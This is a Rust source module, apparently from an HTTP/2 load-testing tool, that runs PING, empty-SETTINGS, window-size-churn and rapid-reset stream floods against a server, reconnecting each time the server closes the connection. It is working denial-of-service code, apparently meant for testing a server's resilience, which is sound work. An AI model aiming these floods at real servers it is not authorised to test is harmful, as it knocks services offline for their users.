//! Frames that cost the sender little and the server work: it may end the connection, and then comes a new one.

use std::io;
use std::net::SocketAddr;
use std::time::Duration;

use super::Until;
use super::raw::{Heard, Raw, WINDOW_MAX};
use super::requests;
use crate::load::http2::frame;

const BATCH: usize = 1_000;
/// Acknowledgements that may be missing: more, and the client only waits for its own frames.
const AHEAD: u64 = 20_000;
const RECONNECT_PAUSE: Duration = Duration::from_millis(20);

#[derive(Clone, Copy, Debug)]
pub enum Flood {
    Pings,
    /// SETTINGS that change nothing.
    Settings,
    /// SETTINGS that change the window of all open streams, again and again.
    Windows {
        streams: usize,
    },
    /// Whole Puts that are reset at once, on so many connections.
    Resets {
        connections: usize,
    },
}

impl Flood {
    pub fn run(&self, addr: SocketAddr, until: &Until) -> io::Result<String> {
        let connections = if let Self::Resets { connections } = self { *connections } else { 1 };
        let outcomes = std::thread::scope(|scope| {
            let threads =
                (0..connections).map(|_| scope.spawn(|| self.persist(addr, until))).collect::<Vec<_>>();
            threads
                .into_iter()
                .map(|thread| thread.join().expect("a flood does not panic"))
                .collect::<Vec<_>>()
        });
        let mut told = Heard::default();
        let (mut made, mut sent) = (0, 0);
        for outcome in outcomes {
            let (heard, connections, frames) = outcome?;
            told.add(&heard);
            made += connections;
            sent += frames;
        }
        Ok(format!("{sent} frames on {made} connections: {told}"))
    }

    /// On one connection after another: what came, how many there were, frames sent.
    fn persist(&self, addr: SocketAddr, until: &Until) -> io::Result<(Heard, u64, u64)> {
        let (mut told, mut made, mut sent) = (Heard::default(), 0, 0);
        while !until.over() {
            let mut raw = match Raw::connect(addr, WINDOW_MAX) {
                Ok(raw) => raw,
                // It was there before: now it takes no more, or is gone.
                Err(_) if made > 0 => {
                    until.pause(RECONNECT_PAUSE);
                    continue;
                }
                Err(error) => return Err(error),
            };
            made += 1;
            // An error is the server's way to end it, and what came says why.
            drop(self.flood(&mut raw, until, &mut sent));
            told.add(&raw.heard());
            until.pause(RECONNECT_PAUSE);
        }
        Ok((told, made, sent))
    }

    fn flood(&self, raw: &mut Raw, until: &Until, sent: &mut u64) -> io::Result<()> {
        raw.wait_for_settings(until)?;
        if let Self::Windows { streams } = self {
            for _ in 0..*streams {
                raw.open_call(requests::PUT);
                raw.flush_some(until)?;
            }
            raw.flush(until)?;
        }
        let put = requests::framed(&requests::put("hostile", 100));
        let mut own = 0;
        loop {
            for number in 0..BATCH {
                match self {
                    Self::Pings => raw.ping(),
                    Self::Settings => raw.settings(&[]),
                    Self::Windows { .. } => {
                        let window = if number % 2 == 0 { 1_000 } else { 60_000 };
                        raw.settings(&[(frame::INITIAL_WINDOW_SIZE, window)]);
                    }
                    Self::Resets { .. } => {
                        let stream = raw.call(requests::PUT, &put, until)?;
                        raw.reset(stream);
                    }
                }
                raw.flush_some(until)?;
            }
            raw.flush(until)?;
            *sent += BATCH as u64;
            own += BATCH as u64;
            if until.over() {
                return Ok(());
            }
            if !matches!(self, Self::Resets { .. }) {
                loop {
                    let heard = raw.heard();
                    if heard.closed {
                        return Ok(());
                    }
                    if own < heard.acknowledged + AHEAD {
                        break;
                    }
                    if !until.pause(super::LOOK) {
                        return Ok(());
                    }
                }
            }
        }
    }
}
